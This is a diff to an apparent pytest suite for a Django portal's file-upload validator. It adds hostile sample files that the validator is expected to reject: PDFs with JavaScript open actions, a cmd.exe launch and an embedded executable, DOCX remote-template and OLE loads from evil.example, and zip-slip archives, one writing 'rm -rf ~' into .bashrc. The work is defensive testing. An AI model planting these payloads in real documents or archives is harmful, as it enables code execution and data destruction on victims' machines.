@@ -24,8 +24,10 @@ import pytest
 from botocore.config import Config
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
+from pypdf import PdfWriter
 
 from partner_portal.settings import s3_storage
+from tests.factories import PDF, PDF_PAGES, pdf_file
 
 # --- sample files -----------------------------------------------------------------------------
 
@@ -272,11 +274,114 @@ def _biff(sheet_types) -> bytes:
     )
 
 
+def _pdf_with(catalog_extra: str = "", page_extra: str = "", *more: str) -> bytes:
+    """A one-page PDF whose catalog and page carry `*_extra`; `more` are objects 4, 5, ..."""
+    return pdf_file(
+        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>",
+        PDF_PAGES,
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page_extra} >>",
+        *more,
+    )
+
+
+def _encrypted(pdf: bytes, *, user: str, owner: str = "owner-secret") -> bytes:
+    writer = PdfWriter(clone_from=io.BytesIO(pdf))
+    writer.encrypt(user_password=user, owner_password=owner, algorithm="AES-128")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+JS_ACTION = "<< /S /JavaScript /JS (app.alert\\(1\\);) >>"
+PDF_JS_ON_OPEN = _pdf_with("/OpenAction 4 0 R", "", JS_ACTION)
+
+
+def _relationships(*relations: tuple[str, str, str]) -> bytes:
+    """A .rels part: (type's last part, target, target mode)."""
+    items = "".join(
+        f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for n, (kind, target, mode) in enumerate(relations, 1)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{items}</Relationships>"
+    ).encode()
+
+
 VBA = {"VBA/dir": b"\x01vba directory", "VBA/_VBA_PROJECT": b"\xcc\x61", "PROJECT": b"ID="}
 WORD = {"WordDocument": "A proposal.".encode("utf-16-le"), "1Table": b"\x00"}
 
 SAMPLES = {
-    "pdf": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< >>\n%%EOF\n",
+    "pdf": PDF,
+    # Active content in PDFs, each built from its objects.
+    "pdf_js_on_open": PDF_JS_ON_OPEN,
+    "pdf_js_names": _pdf_with(
+        "/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", "", JS_ACTION
+    ),
+    # The name written with an escape (#61 is "a"): the parser reads /JavaScript.
+    "pdf_js_escaped_name": _pdf_with("/Names 4 0 R", "", "<< /J#61vaScript << /Names [] >> >>"),
+    "pdf_js_owner_password": _encrypted(PDF_JS_ON_OPEN, user=""),
+    "pdf_launch": _pdf_with(
+        "",
+        "/Annots [4 0 R]",
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>",
+    ),
+    "pdf_embedded_file": _pdf_with(
+        "/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>",
+        "",
+        "<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
+        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+    ),
+    "pdf_open_uri": _pdf_with("/OpenAction << /S /URI /URI (https://tracker.example/) >>"),
+    "pdf_open_goto": _pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "pdf_open_page": _pdf_with("/OpenAction [3 0 R /Fit]"),
+    "pdf_link": _pdf_with(
+        "",
+        "/Annots [4 0 R]",
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://vng.vn/) >> >>",
+    ),
+    "pdf_password": _encrypted(PDF, user="user-secret"),
+    "pdf_truncated": PDF[: len(PDF) // 2],
+    "zip_of_pdf_js": _zip({"offer/quote.pdf": PDF_JS_ON_OPEN}),
+    # Remote template injection: Word fetches the template (and runs its macros) on opening.
+    "docx_remote_template": _ooxml(
+        "word",
+        "document.xml",
+        parts={
+            "word/_rels/settings.xml.rels": _relationships(
+                ("attachedTemplate", "https://evil.example/t.dotm", "External")
+            )
+        },
+    ),
+    "docx_remote_ole": _ooxml(
+        "word",
+        "document.xml",
+        parts={
+            "word/_rels/document.xml.rels": _relationships(
+                ("styles", "styles.xml", ""),
+                ("oleObject", "http://evil.example/o.sct", "External"),
+            )
+        },
+    ),
+    "docx_links": _ooxml(
+        "word",
+        "document.xml",
+        parts={
+            "word/_rels/document.xml.rels": _relationships(
+                ("hyperlink", "https://vng.vn/", "External"),
+                ("attachedTemplate", "file:///C:/Templates/Normal.dotm", ""),
+            )
+        },
+    ),
+    "zip_slip_up": _zip({"docs/readme.txt": b"hi", "../../.bashrc": b"rm -rf ~"}),
+    "zip_slip_up_backslash": _zip({"..\\..\\Startup\\run.bat": b"x"}),
+    "zip_slip_absolute": _zip({"/etc/cron.d/job": b"x"}),
+    "zip_slip_drive": _zip({"C:\\Windows\\win.ini": b"x"}),
+    "zip_dots_in_names": _zip({"v1..2/notes..txt": b"x", "...": b"x"}),
     "xlsx": _ooxml("xl", "workbook.xml"),
     "docx": _ooxml("word", "document.xml"),
     "pptx": _ooxml("ppt", "presentation.xml"),
@@ -377,6 +482,27 @@ HOSTILE = [
     ("sheet.xls", "xls_xlm_macro", "macros", "sheet.xls: documents with macros"),
     ("notes.txt", "html_after_8k", "bad_type", "notes.txt: this type of file is not accepted"),
     ("blank.txt", "whitespace", "empty", "blank.txt: the file is empty."),
+    (
+        "quote.pdf",
+        "pdf_js_on_open",
+        "active_content",
+        "quote.pdf: the PDF runs an action when it opens (/OpenAction /JavaScript)",
+    ),
+    ("quote.pdf", "pdf_js_names", "active_content", "quote.pdf: the PDF holds JavaScript"),
+    ("quote.pdf", "pdf_js_escaped_name", "active_content", "quote.pdf: the PDF holds JavaScript"),
+    ("quote.pdf", "pdf_js_owner_password", "active_content", "quote.pdf: the PDF runs an action"),
+    ("quote.pdf", "pdf_launch", "active_content", "quote.pdf: the PDF can launch a program"),
+    ("quote.pdf", "pdf_embedded_file", "active_content", "quote.pdf: the PDF holds an embedded"),
+    ("quote.pdf", "pdf_open_uri", "active_content", "quote.pdf: the PDF runs an action when it"),
+    ("quote.pdf", "pdf_password", "pdf_encrypted", "quote.pdf: the PDF is password-protected"),
+    ("quote.pdf", "pdf_truncated", "bad_pdf", "quote.pdf: the PDF is damaged or incomplete"),
+    ("offer.zip", "zip_of_pdf_js", "active_content", "offer.zip: the PDF runs an action when"),
+    ("offer.docx", "docx_remote_template", "active_content", "offer.docx: the document loads a"),
+    ("offer.docx", "docx_remote_ole", "active_content", "offer.docx: the document loads an OLE"),
+    ("files.zip", "zip_slip_up", "archive_path", "files.zip: the archive holds a file named “../"),
+    ("files.zip", "zip_slip_up_backslash", "archive_path", "files.zip: the archive holds a file"),
+    ("files.zip", "zip_slip_absolute", "archive_path", "files.zip: the archive holds a file"),
+    ("files.zip", "zip_slip_drive", "archive_path", "files.zip: the archive holds a file named"),
 ]
 
 
